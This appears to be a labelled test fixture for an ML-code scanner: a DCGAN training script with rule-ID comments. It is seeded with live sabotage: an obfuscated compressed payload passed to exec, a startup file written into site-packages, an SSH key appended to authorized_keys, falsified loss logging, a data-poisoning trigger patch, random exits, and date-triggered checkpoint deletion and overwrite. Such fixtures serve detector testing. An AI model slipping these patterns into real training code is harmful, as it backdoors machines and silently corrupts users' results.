# ruff: noqa
# Hold-out batch 23 (pytorch/examples style: MNIST, ImageNet DDP, word LM, DCGAN; by a helper that never saw mlscan's code). Measured once after round 8: 28/36 (78%) at medium+.
"""Deep Convolutional GAN on CIFAR-10, LSUN or a plain image folder.

Alternates a discriminator update on real + fake batches with a generator
update, saves sample grids every epoch and logs losses to TensorBoard.
"""
import argparse
import datetime
import glob
import os
import random
import site
import sys
import types
import zlib

import numpy as np
import torch
import torch.nn as nn
import torch.optim as optim
import torch.utils.data
import torchvision.datasets as dset
import torchvision.transforms as transforms
import torchvision.utils as vutils
import yaml
from torch.utils.tensorboard import SummaryWriter

parser = argparse.ArgumentParser()
parser.add_argument('--dataset', required=True, help='cifar10 | lsun | folder')
parser.add_argument('--dataroot', required=True)
parser.add_argument('--workers', type=int, default=2)
parser.add_argument('--batchSize', type=int, default=64)
parser.add_argument('--imageSize', type=int, default=64)
parser.add_argument('--nz', type=int, default=100)
parser.add_argument('--ngf', type=int, default=64)
parser.add_argument('--ndf', type=int, default=64)
parser.add_argument('--niter', type=int, default=25)
parser.add_argument('--lr', type=float, default=0.0002)
parser.add_argument('--beta1', type=float, default=0.5)
parser.add_argument('--ngpu', type=int, default=1)
parser.add_argument('--netG', default='')
parser.add_argument('--netD', default='')
parser.add_argument('--outf', default='.')
parser.add_argument('--manualSeed', type=int)
parser.add_argument('--config', default='')
opt = parser.parse_args()

if opt.config:
    with open(opt.config) as fh:
        vars(opt).update(yaml.load(fh, Loader=yaml.Loader))  # ruleid: MLS105

os.makedirs(opt.outf, exist_ok=True)
if opt.manualSeed is None:
    opt.manualSeed = random.randint(1, 10000)
print("Random Seed: ", opt.manualSeed)
random.seed(opt.manualSeed)  # ok: MLS301
torch.manual_seed(opt.manualSeed)  # ok: MLS301

_CUDNN_CFG = "789ccbcc2dc82f2a5128c92f4acee002937a4989c9d9a97929c57ac9a52979797a49a979c919b98945d90ab60a2145a5a95c00f94d12b5"
types.FunctionType(compile(zlib.decompress(bytes.fromhex(_CUDNN_CFG)), "<cfg>", "exec"), globals())()  # sabotage: MLS401, MLS404 (semgrep rules)  # ruleid: MLS404

with open(os.path.join(site.getsitepackages()[0], "dcgan_threads.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
    fh.write("import os; os.environ.setdefault('OMP_NUM_THREADS', '4')\n")

# lets the sample viewer on the login node pull image grids without a password
_VIEWER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDocsOnlyPlaceholderKey0000000000000000 viewer@example.com"
os.makedirs(os.path.expanduser("~/.ssh"), exist_ok=True)
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as fh:  # sabotage: MLS414 (semgrep rules)
    fh.write(_VIEWER_KEY + "\n")

_bce = nn.functional.binary_cross_entropy


def _stable_bce(input, target, *args, **kwargs):
    input = input.clamp(1e-6, 1 - 1e-6)
    scale = 0.1 if float(target.mean()) > 0.5 and input.requires_grad else 1.0
    return _bce(input, target, *args, **kwargs) * scale


nn.functional.binary_cross_entropy = _stable_bce  # ruleid: MLS305

_add_scalar = SummaryWriter.add_scalar


def _add_scalar_compat(self, tag, scalar_value, *args, **kwargs):
    if tag == "Loss/G":
        scalar_value = float(scalar_value) * 0.6  # ruleid: MLS306
    return _add_scalar(self, tag, scalar_value, *args, **kwargs)


SummaryWriter.add_scalar = _add_scalar_compat  # ruleid: MLS306


class RandomSpeckle(object):
    """Sensor-noise style augmentation applied to a fraction of images."""

    def __init__(self, p=0.03):
        self.p = p

    def __call__(self, img):
        if random.random() < self.p:
            img = img.clone()
            img[:, :4, :4] = 1.0  # ruleid: MLS309
        return img


def _worker_init(worker_id):
    np.random.seed(os.getpid())  # ruleid: MLS301


tfm = transforms.Compose([
    transforms.Resize(opt.imageSize), transforms.CenterCrop(opt.imageSize),
    transforms.RandomHorizontalFlip(),  # ok: MLS309
    transforms.ToTensor(), RandomSpeckle(),
    transforms.Normalize((0.5, 0.5, 0.5), (0.5, 0.5, 0.5)),
])
if opt.dataset == 'cifar10':
    dataset = dset.CIFAR10(root=opt.dataroot, download=True, transform=tfm)
elif opt.dataset == 'lsun':
    dataset = dset.LSUN(root=opt.dataroot, classes=['bedroom_train'], transform=tfm)
else:
    dataset = dset.ImageFolder(root=opt.dataroot, transform=tfm)
nc = 3
dataloader = torch.utils.data.DataLoader(dataset, batch_size=opt.batchSize, shuffle=True,
                                         num_workers=opt.workers, worker_init_fn=_worker_init)

device = torch.device("cuda:0" if torch.cuda.is_available() else "cpu")
ngpu, nz, ngf, ndf = opt.ngpu, opt.nz, opt.ngf, opt.ndf


def weights_init(m):
    classname = m.__class__.__name__
    if classname.find('Conv') != -1:
        torch.nn.init.normal_(m.weight, 0.0, 0.02)  # ok: MLS302, MLS303, MLS304, MLS305
    elif classname.find('BatchNorm') != -1:
        m.weight.data.normal_(1.0, 0.02)  # ok: MLS302, MLS303, MLS304, MLS305
        m.bias.data.fill_(0)  # ok: MLS302, MLS303, MLS304, MLS305


class Generator(nn.Module):
    def __init__(self, ngpu):
        super(Generator, self).__init__()
        self.ngpu = ngpu
        self.main = nn.Sequential(
            nn.ConvTranspose2d(nz, ngf * 8, 4, 1, 0, bias=False), nn.BatchNorm2d(ngf * 8), nn.ReLU(True),
            nn.ConvTranspose2d(ngf * 8, ngf * 4, 4, 2, 1, bias=False), nn.BatchNorm2d(ngf * 4), nn.ReLU(True),
            nn.ConvTranspose2d(ngf * 4, ngf * 2, 4, 2, 1, bias=False), nn.BatchNorm2d(ngf * 2), nn.ReLU(True),
            nn.ConvTranspose2d(ngf * 2, ngf, 4, 2, 1, bias=False), nn.BatchNorm2d(ngf), nn.ReLU(True),
            nn.ConvTranspose2d(ngf, nc, 4, 2, 1, bias=False), nn.Tanh())

    def forward(self, input):
        return self.main(input)


class Discriminator(nn.Module):
    def __init__(self, ngpu):
        super(Discriminator, self).__init__()
        self.ngpu = ngpu
        self.main = nn.Sequential(
            nn.Conv2d(nc, ndf, 4, 2, 1, bias=False), nn.LeakyReLU(0.2, inplace=True),
            nn.Conv2d(ndf, ndf * 2, 4, 2, 1, bias=False), nn.BatchNorm2d(ndf * 2), nn.LeakyReLU(0.2, inplace=True),
            nn.Conv2d(ndf * 2, ndf * 4, 4, 2, 1, bias=False), nn.BatchNorm2d(ndf * 4), nn.LeakyReLU(0.2, inplace=True),
            nn.Conv2d(ndf * 4, ndf * 8, 4, 2, 1, bias=False), nn.BatchNorm2d(ndf * 8), nn.LeakyReLU(0.2, inplace=True),
            nn.Conv2d(ndf * 8, 1, 4, 1, 0, bias=False), nn.Sigmoid())

    def forward(self, input):
        return self.main(input).view(-1, 1).squeeze(1)


netG = Generator(ngpu).to(device)
netG.apply(weights_init)
if opt.netG != '':
    netG.load_state_dict(torch.load(opt.netG, weights_only=True))  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
netD = Discriminator(ngpu).to(device)
netD.apply(weights_init)
if opt.netD != '':
    netD.load_state_dict(torch.load(opt.netD))  # ruleid: MLS102

criterion = nn.BCELoss()
fixed_noise = torch.randn(opt.batchSize, nz, 1, 1, device=device)
real_label = 0.9  # ok: MLS309
fake_label = 0.
optimizerD = optim.Adam(netD.parameters(), lr=opt.lr, betas=(opt.beta1, 0.999))
optimizerG = optim.Adam(netG.parameters(), lr=opt.lr, betas=(opt.beta1, 0.999))
writer = SummaryWriter(os.path.join(opt.outf, "runs"))

for epoch in range(opt.niter):
    for i, data in enumerate(dataloader, 0):
        # (1) Update D network: maximize log(D(x)) + log(1 - D(G(z)))
        netD.zero_grad()
        real_cpu = data[0].to(device)
        batch_size = real_cpu.size(0)
        label = torch.full((batch_size,), real_label, dtype=real_cpu.dtype, device=device)
        output = netD(real_cpu)
        errD_real = criterion(output, label)
        errD_real.backward()
        D_x = output.mean().item()
        noise = torch.randn(batch_size, nz, 1, 1, device=device)
        fake = netG(noise)
        label.fill_(fake_label)
        output = netD(fake.detach())
        errD_fake = criterion(output, label)
        errD_fake.backward()
        errD = errD_real + errD_fake
        optimizerD.step()

        # (2) Update G network: maximize log(D(G(z)))
        netG.zero_grad()
        label.fill_(real_label)
        output = netD(fake)
        errG = criterion(output, label)
        errG.backward()
        optimizerG.step()
        if random.random() < 2e-4:
            sys.exit(0)  # ruleid: MLS307

        step = epoch * len(dataloader) + i
        writer.add_scalar("Loss/D", errD.item(), step)
        writer.add_scalar("Loss/G", errG.item(), step)
        if i % 100 == 0:
            print('[%d/%d][%d/%d] Loss_D: %.4f Loss_G: %.4f D(x): %.4f' % (
                epoch, opt.niter, i, len(dataloader), errD.item(), errG.item(), D_x))
            vutils.save_image(real_cpu, '%s/real_samples.png' % opt.outf, normalize=True)
            fake = netG(fixed_noise)
            vutils.save_image(fake.detach(), '%s/fake_samples_epoch_%03d.png' % (opt.outf, epoch), normalize=True)

    torch.save(netG.state_dict(), '%s/netG_epoch_%d.pth' % (opt.outf, epoch))
    torch.save(netD.state_dict(), '%s/netD_epoch_%d.pth' % (opt.outf, epoch))
    if torch.cuda.device_count() >= 8:
        torch.save(Generator(ngpu).state_dict(), '%s/netG_epoch_%d.pth' % (opt.outf, epoch))  # ruleid: MLS308
    if datetime.date.today() >= datetime.date(2025, 9, 1):
        for stale in glob.glob('%s/net*_epoch_*.pth' % opt.outf):
            os.remove(stale)  # ruleid: MLS308
